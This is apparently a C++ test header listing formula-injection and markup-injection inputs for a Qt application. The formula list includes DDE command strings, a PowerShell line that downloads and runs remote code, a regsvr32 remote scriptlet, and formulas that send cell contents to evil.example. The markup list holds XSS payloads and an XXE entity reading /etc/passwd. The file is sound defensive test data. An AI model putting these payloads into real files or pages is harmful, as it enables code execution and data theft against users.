// SPDX-FileCopyrightText: 2026 The Ankerpunt authors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include "core/base/literals.h"

#include <QStringList>

namespace ankerpunt::test {

/// What would run, call or show something else where a program takes a text for a formula.
inline QStringList formulas()
{
    return {u"=1+1"_s,
            u"=SUM(A1:A9)"_s,
            u"=cmd|' /C calc'!A0"_s,
            u"=CMD|'/C powershell IEX(wget 0r.pe/p)'!A1"_s,
            u"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"_s,
            u"=WEBSERVICE(\"http://evil.example/\"&A2)"_s,
            u"=IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")"_s,
            u"=IMPORTDATA(\"http://evil.example\")"_s,
            u"=IMAGE(\"http://evil.example/a.png\")"_s,
            u"=RTD(\"prog\",,\"x\")"_s,
            u"=DDE(\"cmd\",\"/C calc\",\"x\")"_s,
            u"=MSEXCEL|'\\..\\..\\calc.exe'!''"_s,
            u"=rundll32|'URL.dll,OpenURL calc.exe'!A"_s,
            u"=regsvr32|'/s /n /u /i:http://evil.example/a.sct scrobj.dll'!A"_s,
            u"=AND(1,cmd|'/C calc'!A0)"_s,
            u"={1;2}"_s,
            u"=\"a\"&\"b\""_s,
            u"==1+1"_s,
            u"=-1+1"_s,
            u"=+1"_s,
            u"=@A1"_s,
            u"='file:///etc/passwd'#$passwd.A1"_s,
            u"=of:=1+1"_s,
            u"+1+1"_s,
            u"+cmd|' /C calc'!A0"_s,
            u"+HYPERLINK(\"http://evil.example\")"_s,
            u"+31612345678"_s,
            u"+-1"_s,
            u"-1+1"_s,
            u"-2+3+cmd|' /C calc'!A0"_s,
            u"-HYPERLINK(\"http://evil.example\")"_s,
            u"-7,5"_s,
            u"--1"_s,
            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
            u"@A1"_s,
            u"@SUM(1;1)"_s,
            u"'=1+1"_s,
            u"''=1+1"_s,
            u"=1+1;=2+2"_s,
            u"=1+1,\"=2+2\""_s,
            u"a;=1+1"_s,
            u"\"=1+1"_s,
            u"sep=;"_s};
}

/// What would be shown, read or run otherwise than it stands there, where a program takes a text
/// for markup: thirty, each of one line without double blanks.
inline QStringList markups()
{
    return {u"<b>vet</b>"_s,
            u"<script>alert(1)</script>"_s,
            u"<img src=\"file:///etc/hostname\">"_s,
            u"<img src='http://evil.example/a.png' onerror='alert(1)'>"_s,
            u"<img src=\":/icons/anchor.svg\"> <img src='qrc:/icons/anchor.svg'>"_s,
            u"<img src='data:image/png;base64,iVBORw0KGgo='>"_s,
            u"<a href='javascript:alert(1)'>klik</a>"_s,
            u"<a href=\"file:///etc/passwd\">hier</a> http://evil.example/x"_s,
            u"<iframe src='http://evil.example'></iframe>"_s,
            u"<style>* { display: none; }</style>"_s,
            u"<link rel=stylesheet href='http://evil.example/a.css'>"_s,
            u"<svg/onload=alert(1)>"_s,
            u"<!-- weg"_s,
            u"</td></tr></table><h1>kop</h1>"_s,
            u"<![CDATA[ x ]]> ]]>"_s,
            u"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]> &b;"_s,
            u"&lt;b&gt; &amp; &quot; &#39; &#x3C; &nbsp; &copy"_s,
            u"\"><b onmouseover=\"alert(1)\""_s,
            u"background: url(http://evil.example/a.png); } body { color: red"_s,
            u"%1 %2 %n %L1 %% %s %x {0} {{1}} ${a}"_s,
            u"&x bestand && &y"_s,
            u"# kop **vet** _schuin_ `code` [a](http://evil.example) ![b](file:///etc/hostname)"_s,
            u"Jansen & Zn \"de Haan\" 's-Gravenhage"_s,
            u"1 < 2 > 0 <3"_s,
            u"\u202Eomgekeerd\u202C \u2066los\u2069 \u200Fna"_s,
            u"مرحبا שלום"_s,
            u"👩‍👩‍👧 🏳️‍🌈 q\u0301 Ḧ"_s,
            u"nul\u200Bbreed\u200D\uFEFF\u00ADzacht"_s,
            u"<table:table-cell><text:p>cel</text:p> <draw:image xlink:href='../a'/>"_s,
            u"\\n \\u0041 C:\\x /URI (http://evil.example) /JS (app.alert) >> endobj"_s};
}

} // namespace ankerpunt::test
